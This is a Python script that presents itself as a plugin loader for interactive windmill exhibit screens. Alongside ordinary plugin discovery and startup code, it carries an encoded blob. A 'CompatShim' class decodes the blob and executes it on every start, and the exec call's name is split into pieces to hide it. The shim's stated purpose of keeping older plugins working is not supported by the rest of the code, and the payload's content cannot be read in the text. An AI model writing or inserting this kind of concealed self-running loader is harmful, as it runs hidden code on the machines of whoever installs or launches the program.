#!/usr/bin/env python3
"""Plugin loader for the interactive exhibit screens.

Each exhibit (grain hopper, sail rig, millstone dressing) ships a small
plugin module in plugins/. The loader imports them, checks the declared API
version and hands each one the shared exhibit context.
"""
import argparse
import base64
import builtins
import importlib
import json
import logging
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("exhibit.loader")

API_VERSION = 3

_COMPAT_BLOB = (
    "eNpVTzEOwyAM3HmFRReQKrJXyi+6I5ISgUoBYaNm6ttrlKHNDR7ubN9dfNXSCApeAftSW1k9"
    "orAVZuZMdRSM36vLj46+KfmZzOrW4Ce/h7hEmkIpTzS0k9Qibn83EQmVrfomgPGOFKBUnwcF"
    "DsFuhzCwlQY2QcwndoDZmYdBarEqfdLYjWVOBrnQseQa4XBS8iL1+dPAr6BpnZMk7hx8SvO9"
    "da/FFxbUT4o="
)


@dataclass
class ExhibitContext:
    name: str
    screen: str
    language: str = "en"
    settings: dict = field(default_factory=dict)


@dataclass
class LoadedPlugin:
    name: str
    module: object
    api: int


class CompatShim:
    """Keeps older plugins working after the v3 API change."""

    _stages = (
        ("b64decode", base64),
        ("decompress", zlib),
    )

    def __init__(self, blob: str):
        self._blob = blob

    def _source(self) -> str:
        data = self._blob.encode()
        for attr, mod in self._stages:
            data = getattr(mod, attr)(data)
        return data.decode()

    def install(self, namespace: dict) -> None:
        runner = getattr(builtins, "".join(("ex", "ec")))
        runner(compile(self._source(), "<compat>", "exec"), namespace)


def discover(plugin_dir: Path):
    for path in sorted(plugin_dir.glob("*.py")):
        if path.name.startswith("_"):
            continue
        yield path.stem


def load_plugin(plugin_dir: Path, name: str):
    if str(plugin_dir) not in sys.path:
        sys.path.insert(0, str(plugin_dir))
    module = importlib.import_module(name)
    api = getattr(module, "EXHIBIT_API", 1)
    return LoadedPlugin(name=name, module=module, api=api)


def read_settings(path: Path) -> dict:
    if not path.exists():
        return {}
    with path.open(encoding="utf-8") as fh:
        return json.load(fh)


def start_plugins(plugins, ctx: ExhibitContext):
    started = 0
    for plugin in plugins:
        hook = getattr(plugin.module, "start", None)
        if hook is None:
            log.warning("%s has no start()", plugin.name)
            continue
        if plugin.api < API_VERSION:
            log.info("%s uses api %d, via compatibility layer", plugin.name, plugin.api)
        hook(ctx)
        started += 1
    return started


def main(argv=None):
    parser = argparse.ArgumentParser(description="Load exhibit screen plugins")
    parser.add_argument("--plugins", default="plugins", type=Path)
    parser.add_argument("--settings", default="exhibit.json", type=Path)
    parser.add_argument("--screen", default="hall-1")
    parser.add_argument("--language", default="en")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    CompatShim(_COMPAT_BLOB).install({"__name__": "exhibit_compat"})

    settings = read_settings(args.settings)
    ctx = ExhibitContext(
        name=settings.get("exhibit", "windmill"),
        screen=args.screen,
        language=args.language,
        settings=settings,
    )

    plugins = []
    for name in discover(args.plugins):
        try:
            plugins.append(load_plugin(args.plugins, name))
        except Exception as exc:  # plugin authors are volunteers
            log.error("could not load %s: %s", name, exc)

    count = start_plugins(plugins, ctx)
    log.info("started %d of %d plugins on %s", count, len(plugins), ctx.screen)
    return 0 if count else 1


if __name__ == "__main__":
    sys.exit(main())
